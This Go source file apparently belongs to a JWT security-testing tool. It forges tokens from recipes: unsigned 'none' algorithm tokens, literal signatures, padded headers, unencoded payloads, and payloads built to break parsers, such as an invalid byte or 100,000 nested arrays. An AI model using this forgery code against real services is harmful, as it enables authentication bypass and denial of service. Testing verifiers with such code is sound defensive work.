package attack

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"time"
)

// Mint is a recipe for a forged token: header and payload as text, so that duplicates and odd numbers survive; how
// to sign; and what to do to the result.
type Mint struct {
	Header  string `json:"header_raw"`
	Payload string `json:"payload_raw"`
	Sign    struct {
		Alg string  `json:"alg"` // RS256, ..., "none" or "literal" for no signature
		Key *string `json:"key"` // a name that Keys know, or "literal:TEXT"
	} `json:"sign"`
	Post []string `json:"post"` // operations NAME or NAME:ARGUMENT, in order
}

// Forge makes the token.
func (k *Keys) Forge(m Mint, v Values) (string, error) {
	header, payload := v.Expand(m.Header), rawPayload(m.Payload, v)
	for _, operation := range m.Post {
		op, arg, _ := strings.Cut(operation, ":")
		switch op {
		case "pad_payload":
			payload = pad(payload, arg)
		case "pad_header":
			header = pad(header, arg)
		}
	}
	f := forgery{header: encode(header), payload: encode(payload), rawPayload: payload, keys: k}
	if has(m.Post, "payload_unencoded") {
		f.payload = payload
	}
	var err error
	if f.signature, err = k.sign(m, f.header+"."+f.payload); err != nil {
		return "", err
	}
	f.token = f.join(f.signature)
	for _, operation := range m.Post {
		op, arg, _ := strings.Cut(operation, ":")
		change, known := operations[op]
		if !known {
			return "", fmt.Errorf("unknown operation %q", operation)
		}
		f.token = change(&f, v.Expand(arg))
	}
	return f.token, nil
}

// rawPayload is the payload's bytes; two of them cannot be written in JSON.
func rawPayload(text string, v Values) string {
	exp := strconv.FormatInt(time.Now().Unix()+3600, 10)
	switch text {
	case "%FF%":
		return `{"token_type":"access","exp":` + exp + `,"user_id":"` + "\xff" + `"}`
	case "%DEEP100K%":
		return `{"exp":` + exp + `,"a":` + strings.Repeat("[", 100000) + strings.Repeat("]", 100000) + `}`
	}
	return v.Expand(text)
}

func pad(object, count string) string {
	n, _ := strconv.Atoi(count)
	return strings.TrimSuffix(object, "}") + `,"x":"` + strings.Repeat("a", n) + `"}`
}

func encode(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

func has(operations []string, name string) bool {
	for _, operation := range operations {
		if op, _, _ := strings.Cut(operation, ":"); op == name {
			return true
		}
	}
	return false
}

// forgery is a token in the making.
type forgery struct {
	token, header, payload, rawPayload string
	signature                          []byte
	keys                               *Keys
}

func (f *forgery) join(signature []byte) string {
	return f.header + "." + f.payload + "." + encode(string(signature))
}

// serialization is the token as a JWS in JSON (RFC 7515, section 7.2).
func (f *forgery) serialization(flat bool) string {
	signature := map[string]any{"protected": f.header, "signature": encode(string(f.signature))}
	object := map[string]any{"payload": f.payload, "signatures": []any{signature}}
	if flat {
		object = signature
		object["payload"] = f.payload
	}
	text, _ := json.Marshal(object) // texts only: it cannot fail
	return string(text)
}
